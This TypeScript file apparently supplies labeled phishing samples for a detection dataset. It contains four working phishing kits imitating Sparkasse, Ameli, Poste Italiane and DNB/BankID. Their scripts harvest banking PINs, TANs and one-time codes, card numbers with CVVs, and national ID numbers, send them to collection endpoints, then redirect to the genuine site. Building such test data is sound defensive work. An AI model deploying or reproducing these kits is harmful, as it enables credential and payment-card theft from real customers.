import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, jsRoute, pngRoute } from '../parts/v-kit.js';

// European-language kits (dev split): German, French, Italian, Norwegian.

// Sparkasse pushTAN "re-registration" kit (de).
const h1 = 'sparkasse-pushtan-verifizierung.de.com';
const sparkasse: Entry = {
  id: 'v-phish-sparkasse-pushtan-de',
  label: 'phishing',
  kind: 'bank-kit',
  url: `https://${h1}/de/home/onlinebanking/pushtan-neuregistrierung.html`,
  body: doc({
    lang: 'de',
    title: 'Sparkasse | pushTAN-Verfahren aktualisieren',
    css: `body{margin:0;font-family:"Sparkasse Rg",Arial,sans-serif;background:#f4f4f4;color:#000}.h{background:#ff0000;color:#fff;padding:14px 26px;font-size:22px;font-weight:700}
.w{max-width:560px;margin:26px auto;background:#fff;padding:28px}select,input{width:100%;padding:10px;border:1px solid #999;margin:4px 0 14px;font-size:15px}button{background:#ff0000;color:#fff;border:0;padding:12px 28px;font-size:15px}
.hin{background:#fff3f3;border-left:4px solid #f00;padding:10px 14px;font-size:14px}`,
    body: `<div class="h">&#8226;S Sparkasse</div><div class="w"><h2>Aktualisierung Ihres pushTAN-Verfahrens</h2>
<div class="hin">Aufgrund der neuen EU-Zahlungsdiensterichtlinie (PSD2) ist eine erneute Registrierung Ihres pushTAN-Verfahrens erforderlich. Ohne Aktualisierung wird Ihr Online-Banking-Zugang ab dem <b>14.03.2026</b> eingeschränkt.</div>
<form id="f" style="margin-top:18px"><label>Bankleitzahl, BIC oder Ort Ihrer Sparkasse</label><input name="blz" placeholder="z. B. 37050198" required>
<label>Anmeldename oder Legitimations-ID</label><input name="login" required><label>Online-Banking-PIN</label><input name="pin" type="password" required>
<label>Mobilfunknummer</label><input name="mobil" required><label>Geburtsdatum</label><input name="geb" placeholder="TT.MM.JJJJ" required><button>Weiter</button></form>
<div id="q" style="display:none"><h3>Freigabe erforderlich</h3><p>Bitte geben Sie die angezeigte TAN aus Ihrer S-pushTAN-App ein, um die Registrierung abzuschließen.</p><input id="tan" maxlength="6"><button id="tb">Bestätigen</button></div>
<p style="font-size:11px;color:#666;margin-top:28px">Impressum · Datenschutz · AGB · Preise und Hinweise · &copy; 2026 Deutscher Sparkassen- und Giroverband</p></div>
<script>var a={};document.getElementById('f').onsubmit=function(e){e.preventDefault();a=Object.fromEntries(new FormData(e.target));fetch('/de/api/s1.php',{method:'POST',body:JSON.stringify(a)});e.target.style.display='none';setTimeout(function(){document.getElementById('q').style.display='block'},3000)};
document.getElementById('tb').onclick=function(){a.tan=document.getElementById('tan').value;fetch('/de/api/s2.php',{method:'POST',body:JSON.stringify(a)}).finally(function(){location.href='https://www.sparkasse.de/'})};</script>`,
  }),
};

// Ameli "carte Vitale" renewal kit (fr), arriving via an SMS shortener.
const h2a = 'sms-lien.fr.to';
const h2 = 'ameli-renouvellement-carte.info';
const ameli: Entry = {
  id: 'v-phish-ameli-carte-vitale-fr',
  label: 'phishing',
  kind: 'gov-refund-kit',
  url: `https://${h2a}/Vt8k2`,
  routes: {
    [`${h2a}/Vt8k2`]: redirectRoute(301, `https://${h2}/assure/carte-vitale/?session=fr9a1c`),
    [`${h2}/assure/carte-vitale/`]: htmlRoute(
      doc({
        lang: 'fr',
        title: 'ameli - Commander votre nouvelle carte Vitale',
        css: `body{margin:0;font-family:Arial,sans-serif;background:#f3f6f9;color:#1b2a4a}.h{background:#fff;border-bottom:3px solid #0c419a;padding:14px 26px;font-weight:700;color:#0c419a;font-size:24px}
.w{max-width:580px;margin:24px auto;background:#fff;padding:26px;border-radius:6px}input{width:100%;padding:10px;border:1px solid #9aa;border-radius:4px;margin:4px 0 12px}button{background:#0c419a;color:#fff;border:0;border-radius:4px;padding:12px 26px}`,
        body: `<div class="h">ameli<span style="color:#e4007d">.fr</span> <span style="font-weight:400;font-size:14px;color:#555">L'Assurance Maladie</span></div>
<div class="w"><h2>Votre carte Vitale arrive à expiration</h2><p>Afin de continuer à bénéficier de vos remboursements, veuillez commander votre nouvelle carte Vitale. Des frais d'envoi de <b>1,49 €</b> s'appliquent.</p>
<form method="post" action="/assure/carte-vitale/etape2.php"><label>Nom</label><input name="nom" required><label>Prénom</label><input name="prenom" required><label>Date de naissance</label><input name="naissance" placeholder="JJ/MM/AAAA" required>
<label>Numéro de sécurité sociale</label><input name="nss" maxlength="15" required><label>Adresse</label><input name="adresse" required><label>Téléphone</label><input name="tel" required>
<label>Numéro de carte bancaire</label><input name="cb" required><label>Date d'expiration</label><input name="exp" placeholder="MM/AA" required><label>Cryptogramme</label><input name="cvv" maxlength="3" required><button>Valider ma commande</button></form>
<p style="font-size:11px;color:#777">© 2026 ameli.fr · Mentions légales · Données personnelles · Accessibilité</p></div>`,
      }),
    ),
  },
};

// Poste Italiane "conto bloccato" kit (it): credentials, card and OTP.
const h3 = 'posteitaliane-verifica-conto.com';
const poste: Entry = {
  id: 'v-phish-poste-it-conto-bloccato',
  label: 'phishing',
  kind: 'bank-kit',
  url: `https://${h3}/it/accesso/`,
  routes: {
    [`${h3}/it/accesso/`]: htmlRoute(
      doc({
        lang: 'it',
        title: 'Poste Italiane - Accedi',
        css: `body{margin:0;font-family:"Titillium Web",Arial,sans-serif;background:#eef2f7}.h{background:#ffd200;padding:14px 24px;font-weight:700;color:#003399;font-size:22px}
.w{max-width:460px;margin:30px auto;background:#fff;padding:28px;border-radius:6px}input{width:100%;padding:11px;border:1px solid #b0b8c4;margin:4px 0 12px;border-radius:4px}button{width:100%;background:#003399;color:#fff;border:0;padding:12px;border-radius:4px;font-weight:700}
.av{background:#fde8e8;color:#a40000;padding:10px;font-size:14px;border-radius:4px}`,
        body: `<div class="h"><img src="/it/img/pi.png" width="26" height="26" alt="Poste Italiane"> PosteItaliane</div>
<div class="w"><div class="av">Gentile cliente, il suo conto BancoPosta è stato temporaneamente <b>bloccato</b> per motivi di sicurezza. Acceda per verificare la sua identità.</div>
<h3>Accedi a Poste.it</h3><form id="f"><input name="user" placeholder="Nome utente o email" required><input name="pass" type="password" placeholder="Password" required><button>ACCEDI</button></form>
<form id="g" style="display:none"><p>Inserisca i dati della carta Postepay / BancoPosta associata al conto</p><input name="cc" placeholder="Numero carta" required><input name="sc" placeholder="Scadenza MM/AA" required><input name="cvv" placeholder="CVV" required><input name="cf" placeholder="Codice fiscale" required><button>CONFERMA</button></form>
<div id="o" style="display:none"><p>Inserisca il codice di sicurezza ricevuto via SMS</p><input id="otp"><button id="ob">VERIFICA</button></div>
<p style="font-size:11px;color:#666">© Poste Italiane 2026 - Partita iva: 01114601006</p></div>
<script src="/it/js/app.js"></script>`,
      }),
    ),
    [`${h3}/it/js/app.js`]: jsRoute(`var X={};function s(){return fetch('/it/api/log',{method:'POST',body:JSON.stringify(X)})}
document.getElementById('f').onsubmit=function(e){e.preventDefault();Object.assign(X,Object.fromEntries(new FormData(e.target)));s();e.target.style.display='none';document.getElementById('g').style.display='block'};
document.getElementById('g').onsubmit=function(e){e.preventDefault();Object.assign(X,Object.fromEntries(new FormData(e.target)));s();e.target.style.display='none';document.getElementById('o').style.display='block'};
document.getElementById('ob').onclick=function(){X.otp=document.getElementById('otp').value;s().finally(function(){location='https://www.poste.it/'})};`),
    [`${h3}/it/img/pi.png`]: pngRoute(255, 210, 0),
  },
};

// DNB / BankID kit (no): "refund" lure asking for BankID credentials.
const h4 = 'dnb-tilbakebetaling.no-sikker.com';
const dnb: Entry = {
  id: 'v-phish-dnb-bankid-no',
  label: 'phishing',
  kind: 'bank-kit',
  url: `https://${h4}/logg-inn/bankid`,
  body: doc({
    lang: 'nb',
    title: 'DNB - Logg inn med BankID',
    css: `body{margin:0;font-family:"DNB",Arial,sans-serif;background:#f2f4f6;color:#14555a}.h{background:#14555a;color:#fff;padding:16px 26px;font-weight:700;font-size:24px}
.w{max-width:480px;margin:30px auto;background:#fff;padding:28px;border-radius:4px}input{width:100%;padding:11px;border:1px solid #6a8a8c;margin:4px 0 14px}button{background:#007272;color:#fff;border:0;padding:12px 30px;font-weight:700}
.bid{border:1px solid #39134c;border-radius:4px;padding:14px;margin-top:14px}.bid b{color:#39134c}`,
    body: `<div class="h">DNB</div><div class="w"><h2>Du har en tilbakebetaling på 2 314,00 kr</h2><p>Vi har registrert en dobbel belastning på kontoen din. Logg inn med BankID for å motta tilbakebetalingen. Kravet utløper om 48 timer.</p>
<div class="bid"><b>BankID</b><form id="f"><label>Fødselsnummer (11 siffer)</label><input name="fnr" maxlength="11" required><label>Engangskode fra kodebrikke / app</label><input name="otp" maxlength="6" required><label>Personlig passord</label><input name="pw" type="password" required><button>Logg inn</button></form></div>
<p style="font-size:11px;color:#667;margin-top:24px">DNB Bank ASA · Org.nr. 984 851 006 · Personvern · Informasjonskapsler</p></div>
<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('/logg-inn/api',{method:'POST',body:new FormData(e.target)});document.querySelector('.bid').innerHTML='<p>Vent litt… Bekreft i BankID-appen på mobilen din.</p>'};</script>`,
  }),
};

export const entries: Entry[] = [sparkasse, ameli, poste, dnb];
